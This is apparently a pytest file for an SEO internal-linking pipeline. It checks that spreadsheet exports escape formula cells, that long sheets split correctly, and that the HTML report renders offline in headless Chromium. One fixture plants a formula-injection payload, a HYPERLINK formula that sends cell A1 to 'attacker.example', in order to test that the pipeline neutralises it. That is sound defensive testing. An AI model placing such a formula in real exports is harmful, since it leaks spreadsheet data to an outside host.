"""Spreadsheet exports and the HTML report: they open safely, and the charts draw in a real browser."""

import duckdb
import openpyxl
import polars as pl
import pytest

from interlink_pipeline.core import exports
from interlink_pipeline.core.report import TOP_OPPORTUNITIES
from interlink_pipeline_tests.conftest import LIGHT, chromium_path, register_lightchiropractic, run_site

INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
TARGET_PAGE = "https://www.lightchiropractic.sg/treatment/lower-back-pain/"


@pytest.fixture()
def planned_site(warehouse_path, inbox_root, instance, crawls, encoder, tmp_path):
    """lightchiropractic with a formula planted in one page's title, run through the whole pipeline."""
    export = pl.read_csv(crawls / "lightchiropractic/internal_all.csv", infer_schema=False)
    export = export.with_columns(
        pl.when(pl.col("Address") == TARGET_PAGE)
        .then(pl.lit(INJECTED))
        .otherwise(pl.col("Title 1"))
        .alias("Title 1")
    )
    crawl = tmp_path / "internal_all.csv"
    export.write_csv(crawl)
    register_lightchiropractic(inbox_root, crawls, crawl)
    result = run_site(warehouse_path, inbox_root, instance, LIGHT)
    assert result.success
    return warehouse_path.parent / "exports" / LIGHT


def test_exports_open_with_headers_fitted_columns_and_no_formulas(planned_site, warehouse_path):
    with duckdb.connect(str(warehouse_path), read_only=True) as con:
        plan_rows = con.execute("SELECT count(*) FROM marts.link_opportunities").fetchone()[0]
        pair_rows = con.execute("SELECT count(*) FROM ml.similarity_pairs").fetchone()[0]
    assert sorted(p.name for p in planned_site.iterdir()) == [
        "interlink_plan.xlsx",
        "link_plan.csv",
        "report.html",
        "similar_pages.csv",
        "topics.csv",
    ]
    raw = (planned_site / "similar_pages.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfpage_url,page_title,")  # BOM, header row
    assert pl.read_csv(planned_site / "similar_pages.csv").height == pair_rows
    planted = {
        cell
        for name in ("link_plan", "similar_pages", "topics")
        for column in pl.read_csv(planned_site / f"{name}.csv", infer_schema=False).iter_columns()
        for cell in column.drop_nulls()
        if "HYPERLINK" in cell
    }
    assert planted == {"'" + INJECTED}  # shown as text, never evaluated

    workbook = openpyxl.load_workbook(planned_site / "interlink_plan.xlsx")
    assert workbook.sheetnames == ["link_plan", "similar_pages", "topics"]
    sheet = workbook["link_plan"]
    assert sheet.max_row == plan_rows + 1 and sheet["A1"].value == "source_url" and sheet["A1"].font.b
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    assert 10 < sheet.column_dimensions["A"].width <= exports.MAX_COLUMN_WIDTH + 2
    cells = [
        cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)


def test_a_sheet_past_the_row_limit_continues_on_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 4)
    frame = pl.DataFrame({"url": [f"/p{i}" for i in range(10)], "note": ["+1", "-x", "@a", "ok", None] * 2})
    assert exports.write_xlsx({"pairs": frame}, tmp_path / "out.xlsx") == {
        "pairs": 4,
        "pairs (2)": 4,
        "pairs (3)": 2,
    }
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert [book["pairs"].cell(r, 2).value for r in range(2, 6)] == ["'+1", "'-x", "'@a", "ok"]
    assert not list(tmp_path.glob(".*partial"))


def test_the_report_draws_its_charts_in_headless_chromium_without_network(
    planned_site, warehouse_path, tmp_path
):
    from playwright.sync_api import sync_playwright

    with duckdb.connect(str(warehouse_path), read_only=True) as con:
        shown = con.execute(
            "SELECT least(count(*), ?) FROM marts.link_opportunities WHERE reason <> 'hub'",
            [TOP_OPPORTUNITIES],
        ).fetchone()[0]

    report = planned_site / "report.html"
    requested = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox"])
        page = browser.new_page(viewport={"width": 1300, "height": 900})

        def only_the_file(route):
            if not route.request.url.startswith("file://"):
                requested.append(route.request.url)
                return route.abort()
            return route.continue_()

        page.route("**/*", only_the_file)
        page.goto(report.as_uri())
        for chart in ("topic-map", "depth-chart", "health-chart", "hub-tree"):
            page.wait_for_selector(f"#{chart} .main-svg", timeout=20_000)
        drawn = {
            "points": page.locator("#topic-map .scatterlayer .point").count(),
            "topics": page.locator("#topic-map .legend .traces").count(),
            "depth bars": page.locator("#depth-chart .bars .point").count(),
            "health bars": page.locator("#health-chart .bars .point").count(),
            "slices": page.locator("#hub-tree .slice").count(),
            "rows": page.locator("#opportunities tbody tr").count(),
        }
        shot = page.screenshot(path=str(tmp_path / "report.png"), full_page=True)
        browser.close()
    assert requested == []  # everything the page needs is in the file
    assert drawn["points"] >= 90 and drawn["topics"] >= 2  # the kept pages, coloured by topic
    assert drawn["depth bars"] >= 6 and drawn["health bars"] == 4  # before and after
    assert drawn["slices"] >= 2 and drawn["rows"] == shown > 0  # the most probable links, at most 50
    assert len(shot) > 100_000  # a page of drawn charts, not a blank one
